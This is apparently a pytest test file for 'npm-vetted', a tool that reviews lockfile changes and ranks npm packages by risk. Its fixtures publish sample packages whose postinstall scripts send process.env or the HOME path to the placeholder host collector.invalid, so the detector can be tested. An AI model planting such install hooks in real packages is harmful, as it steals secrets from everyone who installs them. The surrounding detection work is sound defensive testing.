"""``npm-vetted review``: what a change brings, with packages of a real registry."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from npm_vetted.cli import main
from tests.review.signals.stand_ins import PLAIN
from tests.support.git_repo import GitRepo
from tests.support.terminal import converse
from tests.support.verdaccio import Verdaccio
from tests.test_schemas import check_output

NAMES = ("rv-quiet", "rv-loud", "rv-part")


@pytest.fixture(scope="module")
def published(verdaccio: Verdaccio) -> Verdaccio:
    files = {path: text for path, text in PLAIN.items() if path != "package.json"}
    loud = {
        **files,
        "hello.js": "fetch('https://collector.invalid/', {body: JSON.stringify(process.env)});\n",
    }
    verdaccio.publish("rv-quiet", "1.0.0", files=files)
    verdaccio.publish("rv-quiet", "1.0.1", files=files)
    verdaccio.publish("rv-part", "1.0.0", files=files)
    verdaccio.publish("rv-loud", "1.0.0", files=files)
    verdaccio.publish(
        "rv-loud",
        "1.0.1",
        files=loud,
        scripts={"postinstall": "node hello.js"},
        dependencies={"rv-part": "1.0.0"},
    )
    return verdaccio


def lockfile(registry: Verdaccio, versions: dict[str, str]) -> str:
    """A lockfile of npm for some published versions; rv-part is what rv-loud needs."""
    packages: dict[str, Any] = {
        "": {"name": "app", "dependencies": {n: v for n, v in versions.items() if n != "rv-part"}}
    }
    for name, version in versions.items():
        found = registry.stored(name)["versions"][version]
        packages[f"node_modules/{name}"] = {
            "version": version,
            "resolved": found["dist"]["tarball"],
            "integrity": found["dist"]["integrity"],
            **({"dependencies": found["dependencies"]} if found.get("dependencies") else {}),
        }
    return json.dumps(
        {"name": "app", "lockfileVersion": 3, "requires": True, "packages": packages}, indent=2
    )


def write(repo: GitRepo, registry: Verdaccio, versions: dict[str, str]) -> None:
    direct = {name: version for name, version in versions.items() if name != "rv-part"}
    files = {
        "package.json": json.dumps({"name": "app", "private": True, "dependencies": direct}),
        "package-lock.json": lockfile(registry, versions),
        ".npmrc": f"registry={registry.url}\n",
    }
    for path, text in files.items():
        repo.write(path, text)


@pytest.fixture
def repo(tmp_path: Path, published: Verdaccio) -> GitRepo:
    found = GitRepo(tmp_path / "app")
    write(found, published, {"rv-quiet": "1.0.0", "rv-loud": "1.0.0"})
    found.commit("first")
    write(found, published, {"rv-quiet": "1.0.1", "rv-loud": "1.0.1", "rv-part": "1.0.0"})
    return found


def review(repo: GitRepo, capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str]:
    status = main(["-C", str(repo.path), "review", *arguments])
    seen = capsys.readouterr()
    assert status == 0, seen.err
    return status, seen.out


@pytest.mark.parametrize("staged", [False, True])
def test_the_package_that_newly_acts_comes_first(
    repo: GitRepo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, staged: bool
) -> None:
    monkeypatch.chdir(repo.path)
    if staged:
        repo.add()
    status, out = review(repo, capsys, "--format", "json")
    check_output("review", out)
    assert out, status
    found = json.loads(out)
    assert (status, found["state"]) == (0, "what is staged" if staged else "the working tree")
    assert found["counts"] == {"new": 1, "upgraded": 2}
    first, *others = found["packages"]
    assert (first["package"], first["from"], first["attention"]) == ("rv-loud", "1.0.0", True)
    codes = {reason["code"] for reason in first["reasons"]}
    assert {"install-script-new", "install-code-acts", "pair:send-secrets"} <= codes
    brought = {each["package"]: each["brought-by"] for each in others}
    assert brought["rv-part"] == ["rv-loud@1.0.1"]


def test_how_the_files_are_shared_out_changes_nothing(
    repo: GitRepo,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    monkeypatch.chdir(repo.path)
    seen = []
    for turn in (1, 1 << 20):
        monkeypatch.setattr("npm_vetted.review.signals.scoring._TURN", turn)
        monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / f"cache-{turn}"))
        seen.append(review(repo, capsys, "--format", "json"))
    assert seen[0] == seen[1]
    assert '"hello.js"' in seen[0][1]


@pytest.mark.parametrize("form", ["text", "markdown", "html"])
def test_each_format_names_the_reasons_with_their_places(
    repo: GitRepo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, form: str
) -> None:
    monkeypatch.chdir(repo.path)
    repo.commit("second")
    status, out = review(repo, capsys, "--from-ref", "HEAD~1", "--format", form)
    assert status == 0
    plain = out.replace("\\", "")
    assert "HEAD~1..HEAD brings 3 packages: 1 new, 2 upgraded" in plain
    assert "hello.js:1" in plain
    assert "rv-loud" in plain
    assert "<script" not in out


def test_the_keys_at_a_terminal(repo: GitRepo) -> None:
    """Only what was typed happens: a slip of the finger passes no package."""
    repo.add()
    loud = "rv-loud@1.0.1: [i]nspect, [d]iff, [n]ote, [s]kip, [q]uit? "
    typed = ["?", "", "i", "d", "n", "s"]
    answers = [(loud, key) for key in typed] + [("rv-part@1.0.0: [i]nspect, [n]ote", "q")]
    answers.insert(5, ("done? ", "n"))
    status, screen = converse(["review"], answers, cwd=repo.path)
    shown = [
        "newly, since 1.0.0 (score ", "+fetch('https://collector.invalid/'",
        "nothing is recorded for rv-loud@1.0.1", "rv-part@1.0.0: [i]nspect",
    ]  # fmt: skip
    assert (status, screen.count(loud)) == (0, len(typed))
    assert sorted(shown, key=screen.index) == shown


def test_inspect_compares_with_what_is_committed_where_nothing_is_vetted(
    repo: GitRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    """A repository that has not adopted npm-vetted still has an earlier version."""
    assert main(["-C", str(repo.path), "inspect", "rv-loud@1.0.1"]) == 0
    assert "newly, since 1.0.0 (score " in capsys.readouterr().out


def test_suggest_orders_what_is_exempt_by_the_reasons_also_from_below(
    tmp_path: Path, published: Verdaccio, capsys: pytest.CaptureFixture[str]
) -> None:
    """After an adoption everything is exempt: what acts at install is worth a look before the rest."""
    code = "require('https').request({hostname: 'collector.invalid'}).end(process.env.HOME);\n"
    published.publish(
        "rv-deep", "1.0.0", files={"go.js": code}, scripts={"postinstall": "node go.js"}
    )
    published.publish("rv-top", "1.0.0", dependencies={"rv-deep": "1.0.0"})
    repo = GitRepo(tmp_path / "app")
    write(repo, published, {"rv-quiet": "1.0.0", "rv-top": "1.0.0", "rv-deep": "1.0.0"})
    direct = {"rv-quiet": "1.0.0", "rv-top": "1.0.0"}
    repo.write("package.json", json.dumps({"name": "app", "private": True, "dependencies": direct}))
    locked = json.loads(Path(repo.path, "package-lock.json").read_text())
    locked["packages"][""]["dependencies"] = direct
    repo.write("package-lock.json", json.dumps(locked))
    repo.commit("first")
    main(["-C", str(repo.path), "init"])
    capsys.readouterr()
    assert main(["-C", str(repo.path), "suggest", "--format", "json"]) == 0
    found = json.loads(capsys.readouterr().out)["suggestions"]
    assert {each["status"] for each in found} == {"exempt"}
    assert (found[0]["package"], found[0]["direct"]) == ("rv-deep", False)
    assert found[0]["score"] > found[1]["score"]
    assert any("runs a script at install" in reason for reason in found[0]["reasons"])
